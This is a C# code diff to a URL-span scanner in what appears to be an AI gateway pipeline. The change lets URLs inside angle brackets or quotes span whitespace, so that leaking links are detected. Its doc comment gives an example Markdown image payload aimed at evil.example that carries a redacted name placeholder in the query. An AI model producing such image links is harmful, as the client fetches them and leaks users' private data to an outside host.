@@ -9,7 +9,10 @@ namespace XefAI.Gateway.Pipeline.Invocation;
 /// characters they stand for, so <c>https:\/\/</c> and <c>\n</c> count as <c>https://</c> and a line break). Within a
 /// run, a URL starts at a scheme followed by <c>://</c> (letters, digits, <c>+ . -</c>), at <c>//</c> that opens the run or
 /// follows <c>( = " '</c> (scheme-relative), or at <c>www.</c> that opens the run or follows a character that is not a
-/// letter or digit; it runs to the end of the run. A URL does not end at <c>] ) ' &lt;</c>: a Markdown link destination
+/// letter or digit; it runs to the end of the run, or, when it follows <c>&lt;</c>, <c>"</c> or <c>'</c>, to the matching
+/// <c>&gt;</c>, <c>"</c> or <c>'</c> whatever whitespace comes before it: a CommonMark <c>&lt;…&gt;</c> destination and a
+/// quoted HTML attribute may hold spaces (<c>![c](&lt;https://evil.example/c.png ?n=[NAME_1]&gt;)</c>), which the client
+/// encodes and fetches. A URL does not end at <c>] ) ' &lt;</c>: a Markdown link destination
 /// may hold them, and a query may hold two tokens (<c>?n=[NAME_1]&amp;d=[DATE_1]</c>). Text before the URL in the same
 /// run (<c>[[NAME_1]](https://x)</c>) is not in it.
 /// </para>
@@ -31,6 +34,9 @@ internal static class UrlSpans
         public string Tail { get; set; } = "";
 
         public bool Truncated { get; set; }
+
+        /// <summary>The character that ends the URL the text ends in, when it opened after <c>&lt; " '</c>; NUL otherwise.</summary>
+        public char Closer { get; set; }
     }
 
     /// <summary>
@@ -54,6 +60,7 @@ internal static class UrlSpans
         var truncated = state?.Truncated ?? false;
         var runStart = 0;
         var urlStart = state?.InUrl == true ? 0 : -1;
+        var closer = urlStart >= 0 ? state!.Closer : '\0';
         List<(int Start, int End)>? spans = null;
 
         void Close(int end)
@@ -74,15 +81,25 @@ internal static class UrlSpans
         for (var k = 0; k < chars.Length; k++)
         {
             // An unescaped quote of JSON text is decoded as NUL: both end a run.
-            if (char.IsWhiteSpace(chars[k]) || chars[k] == '\0')
+            if (chars[k] == '\0' || (closer == '\0' && char.IsWhiteSpace(chars[k])))
             {
                 Close(Origin(k));
+                closer = '\0';
                 runStart = k + 1;
                 truncated = false;
+            }
+            else if (closer != '\0')
+            {
+                if (chars[k] == closer)
+                {
+                    Close(Origin(k));
+                    closer = '\0';
+                }
             }
             else if (urlStart < 0 && UrlStartsAt(chars, k, runStart, truncated) is var start && start >= 0)
             {
                 urlStart = Origin(start);
+                closer = start > 0 ? chars[start - 1] switch { '<' => '>', '"' => '"', '\'' => '\'', _ => '\0' } : '\0';
             }
         }
 
@@ -91,6 +108,7 @@ internal static class UrlSpans
         if (state is not null)
         {
             state.InUrl = endsInUrl;
+            state.Closer = endsInUrl ? closer : '\0';
 
             // The tail starts at a character, never inside an escape; an escape cut at the end of the piece is kept whole.
             var runStartRaw = runStart < chars.Length ? Origin(runStart) : decodedEnd;
